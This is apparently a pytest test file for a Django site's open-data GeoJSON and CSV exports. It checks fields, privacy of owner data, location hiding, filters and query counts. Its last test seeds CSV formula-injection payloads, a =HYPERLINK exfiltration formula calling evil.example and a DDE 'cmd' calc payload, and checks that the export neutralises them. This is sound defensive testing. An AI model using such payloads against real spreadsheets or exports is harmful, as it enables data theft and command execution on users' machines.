"""Open data: /api/sites.geojson and /api/sites.csv."""

import csv
import datetime
import io
import json
import re
from decimal import Decimal

import pytest
from django.urls import reverse
from django.utils import translation

from loket.reference.models import ActivityType, EconomicModel
from properties.serializers import CSV_COLUMNS, site_point

from ..factories import SiteFactory

pytestmark = pytest.mark.django_db

GEOJSON_URL = "/api/sites.geojson"
CSV_URL = "/api/sites.csv"


def geojson(client, query: str = "") -> dict:
    response = client.get(f"{GEOJSON_URL}?{query}")
    assert response.status_code == 200
    return json.loads(response.getvalue())


def csv_rows(client, query: str = "") -> list[dict]:
    response = client.get(f"{CSV_URL}?{query}")
    assert response.status_code == 200
    return list(csv.DictReader(io.StringIO(response.getvalue().decode("utf-8"))))


def references(client, query: str = "") -> tuple[list[str], list[str], list[str]]:
    """The references found by the catalogue, the GeoJSON and the CSV for one query."""
    with translation.override("nl"):
        catalogue = client.get(f"{reverse('properties:catalogue')}?{query}")
    return (
        [site.reference for site in catalogue.context["page"].object_list],
        [feature["id"] for feature in geojson(client, query)["features"]],
        [row["reference"] for row in csv_rows(client, query)],
    )


@pytest.fixture
def printing_house(db):
    site = SiteFactory(
        reference="S-2026-00012",
        title_nl="Oude drukkerij",
        title_fr="Ancienne imprimerie",
        description_nl="Grote zalen met daglicht.",
        description_fr="Grandes salles lumineuses.",
        street="Rue Haute",
        number="12",
        commune_id="21004",
        units=[120, 80],
        available_from=datetime.date(2027, 1, 1),
        available_until=None,
        open_to_public=True,
        step_free_access=True,
        economic_model=EconomicModel.objects.get(code="fee_per_m2"),
        fee_amount=Decimal("2.50"),
        charges_monthly=Decimal("100"),
        owner__name="Immo Geheim NV",
        internal_reference="INT-SECRET-42",
        desk_message="Interne opmerking",
    )
    site.allowed_activities.set(ActivityType.objects.filter(code__in=["studios", "cultural"]))
    return site


# --- GeoJSON ------------------------------------------------------------------------------------


def test_geojson_gives_the_public_fields_of_a_site(client, printing_house):
    response = client.get(GEOJSON_URL)
    collection = json.loads(response.getvalue())

    assert response["Content-Type"] == "application/geo+json"
    assert collection["type"] == "FeatureCollection"
    assert collection["license"] == "CC BY 4.0"
    assert collection["features"] == [
        {
            "type": "Feature",
            "id": "S-2026-00012",
            "geometry": {"type": "Point", "coordinates": [4.3525, 50.8467]},
            "properties": {
                "reference": "S-2026-00012",
                "title_nl": "Oude drukkerij",
                "title_fr": "Ancienne imprimerie",
                "description_nl": "Grote zalen met daglicht.",
                "description_fr": "Grandes salles lumineuses.",
                "commune_nis": "21004",
                "commune_nl": "Brussel",
                "commune_fr": "Bruxelles",
                "kind": "building",
                "total_surface_m2": 200.0,
                "units": 2,
                "available_from": "2027-01-01",
                "available_until": None,
                "economic_model": "fee_per_m2",
                "estimated_monthly_cost_eur": 600.0,
                "open_to_public": True,
                "step_free_access": True,
                "activities": ["cultural", "studios"],
                "public_precision": "exact",
                "address": "Rue Haute 12, 1000",
                "url_nl": "http://testserver/nl/sites/S-2026-00012/",
                "url_fr": "http://testserver/fr/sites/S-2026-00012/",
            },
        }
    ]


@pytest.mark.parametrize("url", [GEOJSON_URL, CSV_URL])
def test_open_data_is_shareable_and_cached(client, url):
    response = client.get(url)

    assert response["Access-Control-Allow-Origin"] == "*"
    assert response["Cache-Control"] == "public, max-age=300"
    assert response["Link"] == '<https://creativecommons.org/licenses/by/4.0/>; rel="license"'


@pytest.mark.parametrize("url", [GEOJSON_URL, CSV_URL])
def test_open_data_never_contains_owner_or_private_data(client, printing_house, url):
    body = client.get(url).getvalue().decode()

    assert "Immo Geheim NV" not in body
    assert "INT-SECRET-42" not in body
    assert "Interne opmerking" not in body
    assert "owner" not in body
    assert "manager" not in body


# --- CSV ----------------------------------------------------------------------------------------


def test_csv_is_utf8_with_a_header_and_one_row_per_site(client, printing_house):
    response = client.get(CSV_URL)
    lines = response.getvalue().decode("utf-8").splitlines()

    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="loket-sites.csv"'
    assert lines[0] == ",".join(CSV_COLUMNS)
    assert csv_rows(client) == [
        {
            "reference": "S-2026-00012",
            "title_nl": "Oude drukkerij",
            "title_fr": "Ancienne imprimerie",
            "description_nl": "Grote zalen met daglicht.",
            "description_fr": "Grandes salles lumineuses.",
            "commune_nis": "21004",
            "commune_nl": "Brussel",
            "commune_fr": "Bruxelles",
            "kind": "building",
            "total_surface_m2": "200.0",
            "units": "2",
            "available_from": "2027-01-01",
            "available_until": "",
            "economic_model": "fee_per_m2",
            "estimated_monthly_cost_eur": "600.00",
            "open_to_public": "true",
            "step_free_access": "true",
            "activities": "cultural|studios",
            "public_precision": "exact",
            "latitude": "50.8467",
            "longitude": "4.3525",
            "address": "Rue Haute 12, 1000",
            "url_nl": "http://testserver/nl/sites/S-2026-00012/",
            "url_fr": "http://testserver/fr/sites/S-2026-00012/",
        }
    ]


# --- Location precision -------------------------------------------------------------------------


def test_hidden_location_never_leaks_in_exports(client):
    SiteFactory(
        reference="S-2026-00001",
        street="Geheimstraat",
        number="13",
        latitude=Decimal("50.812345"),
        longitude=Decimal("4.361234"),
        public_precision="hidden",
    )

    feature = geojson(client)["features"][0]
    row = csv_rows(client)[0]
    bodies = [client.get(GEOJSON_URL).getvalue().decode(), client.get(CSV_URL).getvalue().decode()]

    assert feature["geometry"] is None
    assert feature["properties"]["address"] == ""
    assert (row["latitude"], row["longitude"], row["address"]) == ("", "", "")
    assert row["commune_fr"] == "Bruxelles"
    for body in bodies:
        assert "Geheimstraat" not in body
        assert "50.81" not in body
        assert "4.36" not in body


def test_approximate_point_is_the_same_on_the_page_and_in_both_exports(client):
    site = SiteFactory(
        reference="S-2026-00001", street="Geheimstraat", public_precision="approximate"
    )
    latitude, longitude = site_point(site)

    feature = geojson(client)["features"][0]
    row = csv_rows(client)[0]
    with translation.override("fr"):
        page = client.get(reverse("properties:detail", args=[site.reference])).content.decode()

    assert feature["geometry"]["coordinates"] == [longitude, latitude]
    assert (float(row["latitude"]), float(row["longitude"])) == (latitude, longitude)
    assert re.search(r'data-latitude="([0-9.]+)"', page).group(1) == f"{latitude:f}"
    assert re.search(r'data-longitude="([0-9.]+)"', page).group(1) == f"{longitude:f}"
    assert (latitude, longitude) != (50.8467, 4.3525)
    assert row["address"] == ""
    assert "Geheimstraat" not in client.get(GEOJSON_URL).getvalue().decode()


# --- Which sites, in which order ----------------------------------------------------------------


def test_exports_hold_only_visible_public_sites_in_reference_order(client):
    SiteFactory(reference="S-2026-00003", state="fully_occupied")
    SiteFactory(reference="S-2026-00001")
    SiteFactory(reference="S-2026-00002", state="partly_occupied")
    SiteFactory(reference="S-2026-00010", state="draft", publication="")
    SiteFactory(reference="S-2026-00011", state="under_review", publication="")
    SiteFactory(reference="S-2026-00012", publication="desk_only")
    SiteFactory(reference="S-2026-00013", state="suspended")

    expected = ["S-2026-00001", "S-2026-00002", "S-2026-00003"]
    assert references(client) == (expected, expected, expected)


def test_exports_take_the_catalogue_filters(client):
    SiteFactory(reference="S-2026-00001", units=[300], commune_id="21004")
    SiteFactory(reference="S-2026-00002", units=[300], commune_id="21009", postcode="1050")
    SiteFactory(reference="S-2026-00003", units=[40], commune_id="21004")
    SiteFactory(reference="S-2026-00004", units=[500], commune_id="21001", postcode="1070")

    expected = ["S-2026-00001", "S-2026-00002"]
    assert references(client, "commune=21004&commune=21009&surface_min=100") == (
        expected,
        expected,
        expected,
    )


@pytest.mark.parametrize("url", [GEOJSON_URL, CSV_URL])
def test_invalid_filters_are_a_400_with_the_errors(client, url):
    response = client.get(f"{url}?surface_min=lots", HTTP_ACCEPT_LANGUAGE="en")

    assert response.status_code == 400
    assert json.loads(response.content) == {
        "errors": {"surface_min": [{"message": "Enter a number.", "code": "invalid"}]}
    }


@pytest.mark.parametrize("url", [GEOJSON_URL, CSV_URL])
@pytest.mark.parametrize(
    ("query", "errors"),
    [
        (
            "surface_min=1e-99999999",
            {
                "surface_min": [
                    {
                        "message": "Ensure that there are no more than 1 decimal place.",
                        "code": "max_decimal_places",
                    }
                ]
            },
        ),
        (
            "surface_max=1e99999999",
            {
                "surface_max": [
                    {
                        "message": "Ensure this value is less than or equal to 10000000.",
                        "code": "max_value",
                    }
                ]
            },
        ),
        (
            "max_cost=1e-99999999",
            {
                "max_cost": [
                    {
                        "message": "Ensure that there are no more than 2 decimal places.",
                        "code": "max_decimal_places",
                    }
                ]
            },
        ),
    ],
)
def test_numbers_out_of_range_are_a_400_with_the_errors(client, printing_house, url, query, errors):
    response = client.get(f"{url}?{query}", HTTP_ACCEPT_LANGUAGE="en")

    assert response.status_code == 400
    assert json.loads(response.content) == {"errors": errors}


# --- Queries ------------------------------------------------------------------------------------

# The activity filter looks up its code, then one query for the sites and one each for their
# activities and units.
EXPORT_QUERIES = 4


@pytest.mark.parametrize("url", [GEOJSON_URL, CSV_URL])
@pytest.mark.parametrize("count", [1, 30])
def test_exports_run_a_constant_number_of_queries(client, django_assert_num_queries, url, count):
    activities = list(ActivityType.objects.filter(code__in=["cultural", "social"]))
    for _ in range(count):
        site = SiteFactory(units=[120, 80])
        site.allowed_activities.set(activities)

    # The sites are read while the response streams out.
    with django_assert_num_queries(EXPORT_QUERIES):
        response = client.get(f"{url}?surface_min=10&activity=cultural")
        body = response.getvalue().decode()

    assert response.status_code == 200
    assert body.count("S-2026-") >= count


def test_csv_cells_that_start_like_a_formula_are_quoted_as_text(client):
    SiteFactory(
        reference="S-2026-00099",
        title_nl='=HYPERLINK("https://evil.example/?d="&A1,"Klik")',
        title_fr="+33 1 23 45 67 89",
        description_nl="@SUM(1+1)*cmd|' /C calc'!A0",
        description_fr="-1+1",
        units=[150],
    )
    [row] = csv_rows(client)
    assert (
        row["title_nl"],
        row["title_fr"],
        row["description_nl"],
        row["description_fr"],
        row["total_surface_m2"],
        row["units"],
    ) == (
        '\'=HYPERLINK("https://evil.example/?d="&A1,"Klik")',
        "'+33 1 23 45 67 89",
        "'@SUM(1+1)*cmd|' /C calc'!A0",
        "'-1+1",
        "150.0",
        "1",
    )
